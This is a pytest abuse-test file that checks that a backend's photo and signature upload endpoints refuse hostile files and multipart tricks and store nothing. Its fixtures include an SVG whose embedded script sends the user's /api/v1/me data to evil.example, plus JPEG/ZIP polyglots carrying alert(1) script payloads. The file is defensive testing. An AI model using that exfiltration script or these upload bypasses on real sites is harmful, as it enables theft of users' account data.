"""Hostile uploads to every upload endpoint: polyglots, chunk bombs, lying types, multipart tricks, huge
bodies. Each is a 4xx problem and leaves no row and no file behind.

(Plain wrong types, oversize photos, pixel-count bombs and damaged images are in
tests/integration/test_photos.py.)
"""

from __future__ import annotations

import io
import struct
import uuid
import zipfile
import zlib
from pathlib import Path
from typing import Any

import asyncpg
import pytest
from litestar.testing import AsyncTestClient
from PIL import Image

from backend.settings import Settings
from tests.abuse.conftest import bearer_for
from tests.abuse.estate import jpeg_bytes, make_work_order

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/me').then(r=>r.text()).then(t=>location='https://evil.example/?'+t)</script></svg>"
)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bytes(width: int = 32, height: int = 16, *, extra_chunk: bytes = b"") -> bytes:
    """A real PNG, optionally with one more chunk before IDAT."""
    out = io.BytesIO()
    Image.new("RGB", (width, height), (255, 255, 255)).save(out, "PNG")
    data = out.getvalue()
    idat = data.index(b"IDAT") - 4
    return data[:idat] + extra_chunk + data[idat:]


def jpeg_zip_polyglot() -> bytes:
    """A JPEG that is also a ZIP archive (the archive appended after the image's end marker)."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.html", "<script>alert(1)</script>")
    return jpeg_bytes(1) + archive.getvalue()


def jpeg_zip_polyglot_ending_in_ff_d9() -> bytes:
    """The same, with the archive's comment set so the file's last two bytes are a JPEG end marker."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("payload.html", "<script>alert(1)</script>")
        z.comment = b"\xff\xd9"
    return jpeg_bytes(2) + archive.getvalue()


def webp_with_xmp(megabytes: int) -> bytes:
    """A real WebP carrying this many megabytes of XMP."""
    out = io.BytesIO()
    xmp = b"<x:xmpmeta>" + b" " * (megabytes * 1024 * 1024) + b"</x:xmpmeta>"
    Image.new("RGB", (32, 16), (0, 128, 0)).save(out, "WEBP", xmp=xmp)
    return out.getvalue()


def gif_bytes() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue()


HUGE_ITXT = _chunk(b"iTXt", b"Comment\x00\x00\x00\x00\x00" + b"A" * (12 * 1024 * 1024))
HOSTILE_FILES: dict[str, tuple[str, bytes, str]] = {
    "jpeg/zip polyglot": ("photo.jpg", jpeg_zip_polyglot(), "image/jpeg"),
    "jpeg/zip polyglot ending in FF D9": ("photo.jpg", jpeg_zip_polyglot_ending_in_ff_d9(), "image/jpeg"),
    "webp with 8 MB of XMP": ("photo.webp", webp_with_xmp(8), "image/webp"),
    "png with a 12 MB iTXt chunk": ("photo.png", png_bytes(extra_chunk=HUGE_ITXT), "image/png"),
    "svg with script declared as png": ("photo.png", SVG_WITH_SCRIPT, "image/png"),
    "gif renamed .jpg": ("photo.jpg", gif_bytes(), "image/jpeg"),
    "0-byte file": ("photo.jpg", b"", "image/jpeg"),
}
# Why the photo endpoint refuses each (signatures refuse most of them earlier: PNG only).
PHOTO_REFUSAL = {
    "jpeg/zip polyglot": "image_trailing_data",
    "jpeg/zip polyglot ending in FF D9": "image_trailing_data",
    "webp with 8 MB of XMP": "image_metadata_too_large",
    "png with a 12 MB iTXt chunk": "image_metadata_too_large",
    "svg with script declared as png": "not_an_image",
    "gif renamed .jpg": "unsupported_image_type",
    "0-byte file": "empty_file",
}
UPLOAD_FORMS = {
    "photos": {"stage": "after"},
    "sign": {"signerName": "张三", "relation": "owner"},
}
# The state in which each endpoint accepts a good upload, so a refusal is about the file.
STATUS_FOR = {"photos": "on_site", "sign": "completed"}


async def _nothing_stored(db: asyncpg.Connection, settings: Settings) -> list[str]:
    found = []
    for table in ("blobs", "photos", "signatures"):
        n = await db.fetchval(f"SELECT count(*) FROM {table}")
        if n:
            found.append(f"{n} rows in {table}")
    root = Path(settings.data_dir) / "blobs"
    files = [p for p in root.rglob("*") if p.is_file()] if root.exists() else []
    if files:
        found.append(f"{len(files)} files under {root}")
    return found


async def _job(db: asyncpg.Connection, endpoint: str) -> tuple[uuid.UUID, dict[str, str]]:
    site_id = await db.fetchval("SELECT id FROM sites WHERE code = 'demo'")
    tech = await db.fetchval("SELECT id FROM users WHERE username = 'tech1'")
    job = await make_work_order(db, site_id=site_id, status=STATUS_FOR[endpoint], assignee_id=tech)
    return job, {**await bearer_for(db, tech), "Idempotency-Key": str(uuid.uuid4())}


def _assert_problem(r: Any, what: str) -> None:
    assert 400 <= r.status_code < 500, (what, r.status_code, r.text[:300])
    assert r.headers["content-type"].startswith("application/problem+json"), (what, r.headers)
    assert r.json()["status"] == r.status_code


@pytest.mark.parametrize("endpoint", UPLOAD_FORMS)
@pytest.mark.parametrize("case", HOSTILE_FILES)
async def test_hostile_files_are_refused_and_nothing_is_stored(
    endpoint: str, case: str, client: AsyncTestClient, db: asyncpg.Connection, settings: Settings
) -> None:
    job, headers = await _job(db, endpoint)
    r = await client.post(
        f"/api/v1/work-orders/{job}/{endpoint}",
        files={"file": HOSTILE_FILES[case]},
        data=UPLOAD_FORMS[endpoint],
        headers=headers,
    )
    _assert_problem(r, case)
    if endpoint == "photos":
        assert r.json()["code"] == PHOTO_REFUSAL[case], r.text
        assert r.json().get("field") == "file" or r.status_code == 415, r.text
    assert await _nothing_stored(db, settings) == []


def _multipart(parts: list[tuple[str, bytes]], boundary: str = "b0undary") -> bytes:
    body = b"".join(
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value + b"\r\n"
        for name, value in parts
    )
    return body + f"--{boundary}--\r\n".encode()


MULTIPART_TRICKS: dict[str, tuple[str, bytes]] = {
    "10,000 parts": ("multipart/form-data; boundary=b0undary", _multipart([("stage", b"after")] * 10_000)),
    "no boundary": ("multipart/form-data", _multipart([("stage", b"after"), ("file", jpeg_bytes())])),
    "a 1 MB part name": ("multipart/form-data; boundary=b0undary", _multipart([("n" * 1_000_000, b"x")])),
    "5,000 distinct part names": (
        "multipart/form-data; boundary=b0undary",
        _multipart([(f"field{i}", b"x") for i in range(5_000)]),
    ),
    "unterminated": ("multipart/form-data; boundary=b0undary", b"--b0undary\r\nContent-Disposition: form-da"),
}


@pytest.mark.parametrize("endpoint", UPLOAD_FORMS)
@pytest.mark.parametrize("case", MULTIPART_TRICKS)
async def test_multipart_tricks_are_refused_and_nothing_is_stored(
    endpoint: str, case: str, client: AsyncTestClient, db: asyncpg.Connection, settings: Settings
) -> None:
    job, headers = await _job(db, endpoint)
    content_type, body = MULTIPART_TRICKS[case]
    r = await client.post(
        f"/api/v1/work-orders/{job}/{endpoint}",
        content=body,
        headers={**headers, "Content-Type": content_type},
    )
    _assert_problem(r, case)
    assert await _nothing_stored(db, settings) == []


@pytest.mark.parametrize("endpoint", UPLOAD_FORMS)
async def test_a_17_mb_body_is_too_large_for_every_upload_endpoint(
    endpoint: str, client: AsyncTestClient, db: asyncpg.Connection, settings: Settings
) -> None:
    job, headers = await _job(db, endpoint)
    # A real image at the front, so only the size can be the reason.
    big = jpeg_bytes() + bytes(17 * 1024 * 1024)
    r = await client.post(
        f"/api/v1/work-orders/{job}/{endpoint}",
        files={"file": ("big.jpg", big, "image/jpeg")},
        data=UPLOAD_FORMS[endpoint],
        headers=headers,
    )
    _assert_problem(r, "17 MB")
    assert r.status_code == 413
    assert await _nothing_stored(db, settings) == []
